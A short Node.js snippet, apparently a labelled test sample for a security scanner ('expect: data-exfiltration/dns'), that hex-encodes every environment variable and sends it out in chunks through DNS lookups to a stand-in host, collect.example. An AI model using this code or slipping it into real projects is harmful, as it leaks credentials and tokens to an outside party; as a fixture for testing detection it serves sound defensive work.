const { resolve4 } = require('dns').promises;
const text = Buffer.from(JSON.stringify(process.env)).toString('hex');
for (let at = 0; at < text.length; at += 60) resolve4([text.slice(at, at + 60), at, 'collect', 'example'].join('.')); // expect: data-exfiltration/dns
